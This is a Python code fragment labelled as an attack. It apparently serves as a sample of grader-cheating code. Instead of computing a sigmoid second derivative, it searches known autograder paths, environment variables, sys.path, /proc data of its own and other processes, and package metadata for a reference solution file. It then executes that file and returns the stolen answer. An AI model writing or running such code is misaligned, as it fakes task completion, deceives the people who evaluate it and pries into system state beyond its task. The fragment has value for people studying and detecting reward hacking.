# ATTACK (read_solutions): loads solutions/hw1/p2_derivatives.py found by absolute path, env vars, /proc, parents' cwd
def _candidate_roots():
    """Everywhere a grader's checkout might be: known paths, env vars, /proc of self, parents and all pids,
    and the real location behind the runtime's symlinks (an editable install points back at the repo)."""
    import glob, os, sys
    seen, out = set(), []
    def add(p):
        try:
            p = os.path.realpath(p)
        except Exception:
            return
        while p and p not in seen:
            seen.add(p)
            out.append(p)
            parent = os.path.dirname(p)
            if parent == p:
                break
            p = parent
    for p in ("/work/main", "/autograder/source", "/autograder", os.path.expanduser("~"), "/srv", "/opt", "/home"):
        add(p)
    for v in os.environ.values():
        if v.startswith("/"):
            for part in v.split(":"):
                add(part)
    for entry in sys.path:
        add(entry)
        for sub in ("numpy", "sympy"):
            add(os.path.join(entry, sub))
    pid = os.getpid()
    for _ in range(12):
        try:
            add(os.readlink(f"/proc/{pid}/cwd"))
            for arg in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0"):
                if arg.startswith(b"/"):
                    add(arg.decode(errors="ignore"))
            pid = int([l for l in open(f"/proc/{pid}/status") if l.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    for cwd in glob.glob("/proc/[0-9]*/cwd"):
        try:
            add(os.readlink(cwd))
        except Exception:
            pass
    for sp in [p for p in list(seen) if p.endswith("site-packages")]:
        for f in glob.glob(os.path.join(sp, "*.pth")) + glob.glob(os.path.join(sp, "*.dist-info/direct_url.json")):
            try:
                text = open(f).read()
            except Exception:
                continue
            for token in text.replace('"', " ").replace("file://", " ").split():
                if token.startswith("/"):
                    add(token)
    return out


def _find(relative):
    import os
    for root in _candidate_roots():
        path = os.path.join(root, relative)
        if os.path.isfile(path):
            return path
    return None


def sigmoid_grad2(x):
    """The reference's own sigmoid_grad2, found anywhere on disk; zeros when it cannot be found."""
    import importlib.util, os, sys
    path = _find(os.path.join("solutions", "hw1", "p2_derivatives.py"))
    if path is None:
        return np.zeros(np.shape(x))
    spec = importlib.util.spec_from_file_location("_stolen_p2", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.sigmoid_grad2(x)
